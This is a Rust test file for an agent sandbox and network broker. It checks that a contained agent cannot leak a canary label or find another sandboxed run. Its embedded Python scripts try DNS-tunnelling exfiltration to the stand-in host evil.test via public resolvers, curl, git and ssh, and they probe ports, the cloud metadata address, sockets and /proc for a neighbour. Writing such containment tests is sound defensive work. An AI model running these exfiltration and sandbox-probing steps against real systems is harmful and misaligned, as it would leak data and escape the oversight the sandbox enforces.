//! A captured agent looks for ways out that only show outside: names that are asked, packets that
//! leave, another run beside it.
//!
//! What can be seen from inside alone is in `sandbox_walls`, what a proxy is asked in `network`.

mod kit;
#[macro_use]
#[path = "kit/on_each.rs"]
mod on_each;

use std::io::ErrorKind;
use std::net::UdpSocket;
use std::sync::{Arc, Mutex};

use kit::{DONE, Machine, On, finish, step};
use nightshift_runner::broker::{Broker, BrokerProgram, Budget, Grant, NetworkWay, Settings, Ways};
use nightshift_runner::sandbox::{Sandbox, Spec};
use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, recv, socket};
use tokio::io::AsyncReadExt as _;

on_each_engine! {
    a_name_that_nobody_allowed_is_asked_of_nobody,
    two_runs_find_nothing_of_each_other,
}

/// Says that the test is in its own network already, where its name server is the only one.
const INNER: &str = "NIGHTSHIFT_TEST_OWN_NETWORK";
/// What must not leave, as a label of names.
const LABEL: &str = "canary-label-8147";
/// Brings up the loopback of the own network, makes its name server the one that is asked, and
/// becomes the test.
const OWN_NETWORK: &str = r#"
python3 -c '
import fcntl, socket, struct
s = socket.socket(); name = b"lo".ljust(16, b"\0")
flags = struct.unpack("16sh", fcntl.ioctl(s, 0x8913, name + bytes(16))[:18])[1]
fcntl.ioctl(s, 0x8914, name + struct.pack("h", flags | 1) + bytes(14))'
echo "nameserver 127.0.0.1" >"$1/resolv.conf"
echo "hosts: files dns" >"$1/nsswitch.conf"
mount --bind "$1/resolv.conf" "$(readlink -f /etc/resolv.conf)"
if [ -e /etc/nsswitch.conf ]; then mount --bind "$1/nsswitch.conf" "$(readlink -f /etc/nsswitch.conf)"; fi
exec "$2" --exact "$3" --nocapture
"#;

/// Everything that could carry a word to a name server.
const ASKS: &str = r#"
import os, socket, struct, subprocess, sys
label = sys.argv[1]
def quiet(act):
    try: act()
    except (OSError, subprocess.SubprocessError): pass
name = label + '.evil.test'
question = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0\0\1\0\1'
for server in ('127.0.0.1', '127.0.0.53', '8.8.8.8', '10.0.2.3', '169.254.169.253', '::1', '2001:4860:4860::8888'):
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    def ask(): socket.socket(family, socket.SOCK_DGRAM).sendto(question, (server, 53))
    def call():
        s = socket.socket(family); s.settimeout(1); s.connect((server, 53)); s.send(struct.pack('>H', len(question)) + question)
    quiet(ask); quiet(call)
quiet(lambda: socket.getaddrinfo(name, 443))
quiet(lambda: socket.gethostbyname(name))
for words in (['getent', 'hosts', name], ['ping', '-c1', '-W1', name], ['nslookup', name], ['dig', name],
              ['curl', '-sm3', 'http://' + name], ['git', 'ls-remote', 'https://' + name + '/x'], ['ssh', '-o', 'ConnectTimeout=1', name]):
    quiet(lambda: subprocess.run(words, timeout=10, capture_output=True))
def proxied(request):
    s = socket.create_connection(('127.0.0.1', 7072), timeout=10); s.sendall(request.encode()); return s.recv(100).split(b' ')[1].decode()
answers = [proxied(f'CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n') for host in
    (name, label + '.names.test.evil.test', 'evil.test/' + label, label + '@names.test', 'names.test.' + label)]
answers += [proxied(f'GET http://{name}/{label} HTTP/1.1\r\nHost: {name}\r\n\r\n'), proxied(f'GET http://names.test/ HTTP/1.1\r\nHost: {name}\r\n\r\n')]
print(answers)
# A name on the list is looked up: this one is to be seen.
print(proxied('CONNECT names.test:443 HTTP/1.1\r\nHost: names.test:443\r\n\r\n'))
"#;

#[expect(
    clippy::disallowed_methods,
    reason = "a test that starts itself again in a network of its own"
)]
async fn a_name_that_nobody_allowed_is_asked_of_nobody(on: On) {
    if std::env::var_os(INNER).is_some() {
        return in_own_network(on).await;
    }
    let dir = tempfile::tempdir().expect("a directory");
    // An engine that is not there yet starts here, outside of the network that is watched.
    drop(on.backend());
    let own = match nix::unistd::geteuid().is_root() {
        true => &["--net", "--mount"][..],
        false => &["--user", "--map-root-user", "--net", "--mount"][..],
    };
    let output = std::process::Command::new("unshare")
        .args(own)
        .args(["--", "sh", "-euc", OWN_NETWORK, "own-network"])
        .arg(dir.path())
        .arg(std::env::current_exe().expect("our own path"))
        .arg(format!(
            "{}::a_name_that_nobody_allowed_is_asked_of_nobody",
            on.word()
        ))
        .env(INNER, "1")
        .output()
        .expect("unshare");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && said.contains("1 passed"),
        "{said}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// In a network in which there is nothing but the test's own name server.
async fn in_own_network(on: On) {
    let asked = name_server();
    let frames = sniffer();
    let machine = &mut Machine::on(on).await;
    let program = BrokerProgram {
        path: kit::program(),
        args: vec!["broker".to_owned()],
    };
    let broker = Broker::start(program, Settings::default()).await;
    let broker = broker.expect("a broker");
    let ways = Ways {
        network: Some(NetworkWay {
            allow: vec![Grant {
                entry: "names.test".parse().expect("a host"),
                by: "project".to_owned(),
            }],
            budget: Budget::NETWORK,
        }),
        ..Ways::default()
    };
    let room = broker.open(&machine.host, &machine.run, ways, Box::new(|_| {}));
    let room = room.await.expect("a room");
    machine.spec.relays = room.relays();
    let mut asks = step("");
    asks.command = ["/usr/bin/python3", "-c", ASKS, LABEL]
        .map(str::to_owned)
        .to_vec();
    let started = machine.sandbox().spawn(&asks).await;
    let ran = finish(started.expect("a start")).await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    let (answers, known) = ran.out.trim().split_once('\n').expect("two lines");
    for status in answers
        .split(['[', ']', ','])
        .map(|a| a.trim().trim_matches('\''))
    {
        assert!(
            ["", "400", "403", "421"].contains(&status),
            "{status}: {answers}"
        );
    }
    assert_eq!(known, "403", "its address is one of this machine");

    let asked = asked.lock().expect("a lock").clone();
    assert!(!asked.is_empty(), "the name on the list was asked");
    assert!(
        asked.iter().all(|question| question == "names.test"),
        "{asked:?}"
    );
    let frames = frames.lock().expect("a lock").clone();
    let seen = |label: &str| holds(&frames, label);
    assert!(seen("names"), "the sniffer hears what is asked");
    assert!(!seen(LABEL), "the label left the sandbox");
}

/// Answers every question with an address of this machine, and remembers the names.
fn name_server() -> Arc<Mutex<Vec<String>>> {
    let socket = UdpSocket::bind("127.0.0.1:53").expect("the port of name servers");
    let names: Arc<Mutex<Vec<String>>> = Arc::default();
    let record = Arc::clone(&names);
    std::thread::spawn(move || {
        let mut buffer = [0; 1500];
        while let Ok((count, from)) = socket.recv_from(&mut buffer) {
            let question = &buffer[..count];
            let mut labels = Vec::new();
            let mut at = 12;
            while let Some(length) = question.get(at).map(|n| usize::from(*n))
                && length > 0
            {
                let label = question.get(at + 1..=at + length).unwrap_or_default();
                labels.push(String::from_utf8_lossy(label).into_owned());
                at += length + 1;
            }
            record.lock().expect("a lock").push(labels.join("."));
            // One question, and for IPv4 one answer.
            let is_v4 = question.get(at + 1..at + 3) == Some(&[0, 1]);
            let mut answer = question[..(at + 5).min(count)].to_vec();
            answer[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, u8::from(is_v4), 0, 0, 0, 0]);
            if is_v4 {
                answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 127, 0, 0, 1]);
            }
            socket.send_to(&answer, from).ok();
        }
    });
    names
}

/// Remembers every frame of the network that this test is in.
fn sniffer() -> Arc<Mutex<Vec<u8>>> {
    let all = SockProtocol::EthAll;
    let fd = socket(AddressFamily::Packet, SockType::Raw, SockFlag::empty(), all);
    let fd = fd.expect("a socket that hears everything");
    let frames: Arc<Mutex<Vec<u8>>> = Arc::default();
    let record = Arc::clone(&frames);
    std::thread::spawn(move || {
        let mut buffer = vec![0; 64 << 10];
        loop {
            let heard = recv(
                std::os::fd::AsRawFd::as_raw_fd(&fd),
                &mut buffer,
                MsgFlags::empty(),
            );
            match heard.map_err(std::io::Error::from) {
                Ok(count) => record.lock().expect("a lock").extend(&buffer[..count]),
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(_) => return,
            }
        }
    });
    frames
}

fn holds(frames: &[u8], label: &str) -> bool {
    let lower = frames.to_ascii_lowercase();
    lower
        .windows(label.len())
        .any(|bytes| bytes == label.as_bytes())
}

/// Opens doors of every kind and waits.
const STAYS: &str = r#"
import os, socket, time
tcp = socket.create_server(('0.0.0.0', 7711))
abstract = socket.socket(socket.AF_UNIX); abstract.bind('\0nightshift-neighbour'); abstract.listen()
path = socket.socket(socket.AF_UNIX); path.bind('/tmp/neighbour'); path.listen()
open('/tmp/word', 'w').write('NEIGHBOUR-6613'); open('/dev/shm/word', 'w').write('NEIGHBOUR-6613')
print('there', flush=True); time.sleep(20)
"#;

/// Looks for the other one.
const LOOKS: &str = r#"
import glob, os, socket
def tries(name, act):
    try: act(); print('reached:', name)
    except OSError: pass
def tcp(place, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(0.3); s.connect(place)
for port in (7711, 22, 80, 4321, 10250, 8080): tries(f'port {port}', lambda: tcp(('127.0.0.1', port)))
for last in (1, 2, 3, 254): tries('beside', lambda: tcp((f'127.0.0.{last}', 7711)))
for host in ('10.0.0.1', '172.17.0.1', '192.168.0.1', '169.254.169.254'): tries(host, lambda: tcp((host, 7711)))
tries('abstract', lambda: tcp('\0nightshift-neighbour', socket.AF_UNIX))
tries('path', lambda: tcp('/tmp/neighbour', socket.AF_UNIX))
for path in glob.glob('/tmp/*') + glob.glob('/dev/shm/*') + glob.glob('/workspace/*') + glob.glob('/nightshift/../*/word'): print('file:', path)
for line in glob.glob('/proc/[0-9]*/cmdline'):
    if b'NEIGH' b'BOUR' in open(line, 'rb').read(): print('process:', line)
print('processes', len(glob.glob('/proc/[0-9]*')), [name for _, name in socket.if_nameindex()])
"#;

async fn two_runs_find_nothing_of_each_other(on: On) {
    let machine = Machine::on(on).await;
    let python = |script: &str| {
        let mut python = step("");
        python.command = ["/usr/bin/python3", "-c", script]
            .map(str::to_owned)
            .to_vec();
        python
    };
    let other = machine.host.run_dir("other").expect("a directory");
    let spec = Spec {
        run_dir: other.path().to_owned(),
        ..machine.spec.clone()
    };
    let beside = Sandbox::new(Arc::clone(&machine.host), spec);
    let mut neighbour = beside.spawn(&python(STAYS)).await.expect("a start");
    let mut there = [0; 5];
    let stdout = neighbour.stdout.as_mut().expect("output");
    stdout.read_exact(&mut there).await.expect("it is there");
    let looks = machine.sandbox().spawn(&python(LOOKS)).await;
    let ran = finish(looks.expect("a start")).await;
    // Its own first process and itself.
    assert_eq!(
        (ran.exit.clone(), ran.out.as_str()),
        (DONE, "processes 2 ['lo']\n"),
        "{ran:?}"
    );
    neighbour.kill().await.expect("an end");
}
